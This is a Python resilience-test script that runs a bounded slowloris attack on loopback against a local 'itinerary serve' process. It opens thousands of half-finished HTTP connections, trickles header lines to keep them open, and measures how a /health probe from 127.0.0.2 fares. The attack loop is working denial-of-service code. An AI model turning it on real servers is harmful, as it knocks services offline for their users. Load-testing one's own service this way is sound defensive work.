#!/usr/bin/env python3
"""A bounded slowloris run on loopback against `itinerary serve` (issue 12, item 7).

Attackers on 127.0.0.1 open CONNECTIONS connections (split over ATTACKERS processes) and send
half a request line on each, then a header line every few seconds, re-opening any the server
closes, for SECONDS. Meanwhile a patient's calendar app on 127.0.0.2 asks for /health every
100 ms (2 s timeout). Prints one JSON line: how many attack connections the server held open
(at most, and at the end; summed over the attackers' one-second samples), how many it refused
or cut, and the app's successes and latencies.

    slowloris.py --port PORT [--connections 24000] [--attackers 2] [--seconds 20]
"""
import argparse
import asyncio
import json
import multiprocessing
import resource
import socket
import statistics
import time


async def attacker(port, n, seconds, out):
    held, opened, cut, failed = set(), 0, 0, 0
    end = time.monotonic() + seconds
    # Connections are opened a few hundred at a time, as a patient attacker would: a flood of
    # SYNs overflows the listen backlog and measures the kernel rather than the service.
    connecting = asyncio.Semaphore(400)
    most = 0

    async def one():
        nonlocal opened, cut, failed
        while time.monotonic() < end:
            try:
                async with connecting:
                    r, w = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", port), 5)
            except Exception:
                failed += 1
                await asyncio.sleep(0.5)
                continue
            opened += 1
            try:
                w.write(b"GET /health HTTP/1.1\r\n")
                await w.drain()
                held.add(w)
                while time.monotonic() < end:
                    # A header line now and then, never the blank line that ends them.
                    try:
                        data = await asyncio.wait_for(r.read(1024), 3)
                    except asyncio.TimeoutError:
                        w.write(b"X-a: b\r\n")
                        await w.drain()
                        continue
                    if not data:
                        break
            except Exception:
                pass
            held.discard(w)
            cut += 1
            w.close()

    tasks = [asyncio.create_task(one()) for _ in range(n)]
    for _ in range(int(seconds) - 1):
        await asyncio.sleep(1)
        most = max(most, len(held))
    out.put({"held_at_end": len(held), "held_most": most, "opened": opened, "cut_or_refused": cut, "connect_failures": failed})
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


def run_attacker(port, n, seconds, out):
    resource.setrlimit(resource.RLIMIT_NOFILE, (n + 1024, n + 1024))
    asyncio.run(attacker(port, n, seconds, out))


def probe(port, seconds):
    ok, failed, lat = 0, 0, []
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        t = time.monotonic()
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=2, source_address=("127.0.0.2", 0))
            s.settimeout(2)
            s.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            data = s.recv(64)
            s.close()
            if data.startswith(b"HTTP/1.1 200") or data.startswith(b"HTTP/1.1 503"):
                ok += 1
                lat.append((time.monotonic() - t) * 1000)
            else:
                failed += 1
        except Exception:
            failed += 1
        time.sleep(0.1)
    lat.sort()
    q = lambda p: round(lat[min(len(lat) - 1, int(p * len(lat)))], 1) if lat else None
    return {"probe_ok": ok, "probe_failed": failed, "probe_p50_ms": q(0.5), "probe_p99_ms": q(0.99)}


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--connections", type=int, default=24000)
    p.add_argument("--attackers", type=int, default=2)
    p.add_argument("--seconds", type=int, default=20)
    a = p.parse_args()
    out = multiprocessing.Queue()
    procs = [multiprocessing.Process(target=run_attacker, args=(a.port, a.connections // a.attackers, a.seconds, out)) for _ in range(a.attackers)]
    for pr in procs:
        pr.start()
    time.sleep(min(5, a.seconds / 4))  # let the attack build up first
    result = probe(a.port, a.seconds - min(5, a.seconds / 4) - 1)
    parts = [out.get(timeout=30) for _ in procs]
    for pr in procs:
        pr.join(timeout=30)
        if pr.is_alive():
            pr.kill()
    for k in ("held_at_end", "held_most", "opened", "cut_or_refused", "connect_failures"):
        result["attack_" + k] = sum(x[k] for x in parts)
    result["connections"] = a.connections
    print(json.dumps(result))


if __name__ == "__main__":
    main()
